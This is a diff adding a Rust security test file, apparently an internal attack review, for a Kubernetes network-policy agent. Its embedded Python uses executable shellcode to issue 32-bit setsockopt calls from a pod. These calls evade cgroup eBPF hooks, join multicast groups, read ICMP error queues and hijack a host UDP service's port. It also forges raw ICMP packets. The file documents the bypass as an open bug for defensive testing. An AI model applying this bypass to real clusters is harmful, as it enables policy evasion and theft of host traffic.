@@ -1,0 +1,292 @@
+//! A thirty-ninth attack review, run as the code of an enforced Kubernetes pod: root in
+//! its container, no `sandbox run` around it (so no seccomp filter), in a pod cgroup the
+//! agent enrolled ([`TestEnv::root_pod`], or the kubelet-shaped trees of
+//! `hb_tests::kube_cluster`). Each test performs one attack against the real agent and
+//! kernel and counts what got through. A test marked `#[ignore = "open: …"]` is a break
+//! found and not yet fixed: it fails against the current agent.
+//!
+//! Everything lives in the test's own network namespace, addresses on `lo`.
+
+use std::{
+    fs,
+    io::{BufRead as _, BufReader, Write as _},
+    process::{Command, Stdio},
+};
+
+use hb_tests::{
+    TestEnv, capture::Capture, pod_glob, private_netns, python, random_suffix, sh, spawn_ready,
+};
+
+/// Allowed by the policy (a static CIDR, excepted from the deny ranges).
+const ALLOWED4: &str = "203.0.113.10";
+/// Not allowed: the host's private address a pod may not hear from or send to.
+const FORBIDDEN4: &str = "10.0.0.1";
+/// The group the pod joins.
+const GROUP: &str = "239.7.7.9";
+/// The host's UDP service (bound with `SO_REUSEADDR` on the wildcard address, as many
+/// UDP daemons do).
+const SERVICE_PORT: u16 = 7100;
+
+/// The agent with policy `narrow` (the allowed address as a static CIDR, `inbound`
+/// left false) and pods enrolled by its glob.
+fn agent(name: &str) -> TestEnv {
+    let mut env = TestEnv::new(
+        name,
+        &format!(
+            "[egress]\nexception_cidrs = [\"203.0.113.0/24\"]\n\n[[policy]]\nname = \"narrow\"\n\
+             allow_cidrs = [\"{ALLOWED4}/32\"]\n{}",
+            pod_glob("narrow")
+        ),
+    );
+    env.start_agent();
+    env
+}
+
+/// `setsockopt` through the 32-bit entry (`int $0x80`, i386 number 366) from a 64-bit
+/// process (the value copied below 4 GiB first), beside the native call: `compat(s,
+/// level, name, value)` and `native(…)` return `OK` or the errno's name.
+const PY_COMPAT: &str = r#"
+import ctypes, errno, mmap, socket, struct, sys
+code = bytes.fromhex("5389fb4489c787ceb86e010000cd805bc3")
+anon = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+exe = mmap.mmap(-1, 4096, flags=anon, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+exe.write(code)
+call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_ulong,
+                        ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(exe)))
+low = mmap.mmap(-1, 4096, flags=anon | 0x40, prot=mmap.PROT_READ | mmap.PROT_WRITE)
+lowaddr = ctypes.addressof(ctypes.c_char.from_buffer(low))
+assert lowaddr < 1 << 32
+def compat(s, level, name, value):
+    low.seek(0); low.write(value)
+    rc = call(s.fileno(), level, name, lowaddr, len(value))
+    return "OK" if rc == 0 else errno.errorcode.get(-rc, str(rc))
+def native(s, level, name, value):
+    try:
+        s.setsockopt(level, name, value); return "OK"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+def attempt(f):
+    try:
+        f(); return "OK"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+ONE = struct.pack("i", 1)
+"#;
+
+/// The pod's part: joins [`GROUP`] natively and through the 32-bit entry; opens two UDP
+/// sockets connected to the allowed address's port 9 with `IP_RECVERR` set natively and
+/// through the 32-bit entry; binds the host service's port on `127.0.0.1` with
+/// `SO_REUSEADDR` set both ways; tries `IP_FREEBIND` and a bind to an address the host
+/// does not hold. Prints `ready <native errq port> <compat errq port>` plus its results,
+/// waits for a line, then prints what the error queues and the bound port received.
+const PY_POD: &str = r#"
+out = []
+mreq = socket.inet_aton(sys.argv[1]) + socket.inet_aton("127.0.0.1")
+j1, j2 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+out += ["join-native=" + native(j1, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)]
+out += ["join-compat=" + compat(j2, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)]
+errq = {}
+for how, f in (("native", native), ("compat", compat)):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((sys.argv[2], 0))
+    out += ["recverr-%s=%s" % (how, f(s, socket.IPPROTO_IP, 11, ONE))]
+    s.connect((sys.argv[2], 9))
+    errq[how] = s
+r1, r2 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+port = int(sys.argv[3])
+out += ["reuse-native=" + native(r1, socket.SOL_SOCKET, socket.SO_REUSEADDR, ONE) + "/" + attempt(lambda: r1.bind(("127.0.0.1", port)))]
+out += ["reuse-compat=" + compat(r2, socket.SOL_SOCKET, socket.SO_REUSEADDR, ONE) + "/" + attempt(lambda: r2.bind(("127.0.0.1", port)))]
+fb = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+out += ["freebind-compat=" + compat(fb, socket.IPPROTO_IP, 15, ONE) + "/" + attempt(lambda: fb.bind(("198.51.100.7", 0)))]
+print("ready", errq["native"].getsockname()[1], errq["compat"].getsockname()[1], " ".join(out), flush=True)
+sys.stdin.readline()
+for how, s in errq.items():
+    got = b""
+    while True:
+        try:
+            data, anc, flags, addr = s.recvmsg(2048, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
+            got += data
+        except OSError:
+            break
+    print("errqueue-%s=%d:%s" % (how, got.count(b"hb-exfil:"), len(got)), flush=True)
+stolen = 0
+for s in (r1, r2):
+    s.setblocking(False)
+    while True:
+        try:
+            stolen += s.recv(2048).count(b"hb-exfil:")
+        except OSError:
+            break
+print("stolen=%d" % stolen, flush=True)
+"#;
+
+/// The host's UDP service (root, outside every hb cgroup): `SO_REUSEADDR` on
+/// `0.0.0.0:argv[1]`; prints `ready`, then writes a line to the file `argv[2]` per tagged
+/// datagram it receives.
+const PY_SERVICE: &str = r#"
+import socket, sys
+log = open(sys.argv[2], "a", buffering=1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", int(sys.argv[1])))
+print("ready", flush=True)
+while True:
+    d = s.recv(2048)
+    if b"hb-exfil:" in d:
+        log.write("got\n")
+"#;
+
+/// The world outside the pod: an ICMP port-unreachable from [`FORBIDDEN4`] to each of
+/// the pod's error-queue sockets (`argv[1..3]`, source ports; the quoted datagram
+/// carries a tagged payload of the sender's choosing), then five tagged datagrams from
+/// a host client to the service on `127.0.0.1`.
+const PY_WORLD: &str = r#"
+import socket, struct, sys
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16: s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+def iphdr(src, dst, proto, total):
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, proto, 0,
+                       socket.inet_aton(src), socket.inet_aton(dst))
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+allowed, forbidden = sys.argv[3], sys.argv[4]
+for port in (int(sys.argv[1]), int(sys.argv[2])):
+    payload = b"hb-exfil:errqueue-" + b"x" * 200
+    udp = struct.pack("!HHHH", port, 9, 8 + len(payload), 0)
+    inner = iphdr(allowed, allowed, 17, 20 + len(udp) + len(payload)) + udp + payload
+    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + inner
+    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
+    raw.sendto(iphdr(forbidden, allowed, 1, 20 + len(icmp)) + icmp, (allowed, 0))
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(5):
+    c.sendto(b"hb-exfil:service-%d" % i, ("127.0.0.1", int(sys.argv[5])))
+print("sent", flush=True)
+"#;
+
+/// The value of `key=` among the words of `text`.
+fn field<'a>(text: &'a str, key: &str) -> &'a str {
+    text.split_whitespace()
+        .find_map(|w| w.strip_prefix(key).and_then(|r| r.strip_prefix('=')))
+        .unwrap_or("-")
+}
+
+/// Open: a pod's **32-bit system calls** (`int $0x80`) skip every `cgroup/setsockopt`
+/// program (`do_sock_setsockopt(sock, in_compat_syscall(), …)`): `sandbox run` closes
+/// that with its seccomp filter, and nothing does for a pod (the runtime's default
+/// seccomp profile allows the 32-bit ABI, and is not even applied unless the pod asks).
+/// Root in an enforced pod in the agent's network namespace (a `hostNetwork` pod), each
+/// option the hook refuses natively, set through the 32-bit entry:
+/// - `IP_ADD_MEMBERSHIP`: the kernel sends IGMP reports naming the pod's group (28 bits
+///   of its choosing per report, onto the link);
+/// - `IP_RECVERR`: an ICMP error from a host the pod may not hear, quoting a datagram
+///   with a payload of the sender's choosing, is queued and read (`MSG_ERRQUEUE`): an
+///   inbound channel no program sees;
+/// - `SO_REUSEADDR` on UDP: the pod binds the host service's port on `127.0.0.1` beside
+///   the service's wildcard socket and the kernel hands it every datagram sent there.
+/// `IP_FREEBIND` is set the same way, but the bind to an address the host does not hold
+/// is still refused (`cgroup/bind4`): held.
+#[test]
+#[ignore = "open: 32-bit setsockopt from a pod skips cgroup/setsockopt (needs an LSM or \
+            fmod_ret program on the compat entry, or a seccomp profile the node enforces)"]
+fn a_pods_32_bit_setsockopt_joins_reads_errors_and_takes_a_host_port() {
+    private_netns(&[ALLOWED4, FORBIDDEN4]);
+    sh("ip link set lo multicast on");
+    let capture = Capture::lo();
+    let env = agent("ar39-compat");
+    let pod = env.root_pod("narrow");
+    let log = std::env::temp_dir().join(format!("hb-ar39-{}", random_suffix()));
+    let mut service = spawn_ready(
+        Command::new(python()).args([
+            "-c",
+            PY_SERVICE,
+            &SERVICE_PORT.to_string(),
+            &log.display().to_string(),
+        ]),
+        "the host's service",
+    );
+    let mut child = pod
+        .command(&[
+            python(),
+            "-c",
+            &format!("{PY_COMPAT}\n{PY_POD}"),
+            GROUP,
+            ALLOWED4,
+            &SERVICE_PORT.to_string(),
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("the pod's script");
+    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
+    let ready = lines.next().expect("a line").expect("ready line");
+    let words: Vec<&str> = ready.split_whitespace().collect();
+    assert_eq!(words.first(), Some(&"ready"), "{ready}");
+    let world = Command::new(python())
+        .args([
+            "-c",
+            PY_WORLD,
+            words[1],
+            words[2],
+            ALLOWED4,
+            FORBIDDEN4,
+            &SERVICE_PORT.to_string(),
+        ])
+        .output()
+        .expect("the world's script");
+    assert!(
+        String::from_utf8_lossy(&world.stdout).contains("sent"),
+        "{}",
+        String::from_utf8_lossy(&world.stderr)
+    );
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    writeln!(child.stdin.as_mut().expect("stdin"), "go").expect("go");
+    let rest: Vec<String> = lines.map_while(Result::ok).collect();
+    let _ = child.wait();
+    let _ = service.kill();
+    let _ = service.wait();
+    let served = fs::read_to_string(&log)
+        .unwrap_or_default()
+        .lines()
+        .filter(|l| *l == "got")
+        .count();
+    let _ = fs::remove_file(&log);
+    let text = format!("{ready} {}", rest.join(" "));
+    let group_bytes = GROUP.parse::<std::net::Ipv4Addr>().expect("group").octets();
+    let reports = ["224.0.0.22", GROUP]
+        .iter()
+        .flat_map(|dst| capture.to(dst.parse().expect("address")))
+        .filter(|p| p.0.len() > 20 && p.0[9] == 2 && p.carries(&group_bytes))
+        .count();
+    let errq_compat = field(&text, "errqueue-compat");
+    let errq_native = field(&text, "errqueue-native");
+    println!(
+        "figure: 32-bit setsockopt from an enforced pod: IGMP reports naming {GROUP}: {reports}; \
+         error-queue reads (tags:bytes) native {errq_native}, compat {errq_compat}; of 5 datagrams \
+         to the host's service on 127.0.0.1:{SERVICE_PORT}, the service got {served}, the pod \
+         read {}; the pod saw: {text}",
+        field(&text, "stolen")
+    );
+    // The controls: each option is refused (or neutralised) natively.
+    assert_eq!(field(&text, "join-native"), "EPERM", "{text}");
+    assert_eq!(errq_native.split(':').next(), Some("0"), "{text}");
+    assert!(field(&text, "reuse-native").starts_with("EPERM"), "{text}");
+    assert!(
+        field(&text, "freebind-compat").ends_with("/EPERM"),
+        "{text}"
+    );
+    assert_eq!(
+        reports, 0,
+        "the pod's 32-bit join sent IGMP reports: {text}"
+    );
+    assert_eq!(
+        errq_compat.split(':').next(),
+        Some("0"),
+        "the pod read ICMP errors from {FORBIDDEN4}: {text}"
+    );
+    assert_eq!(
+        served, 5,
+        "the pod took the host service's datagrams: {text}"
+    );
+}
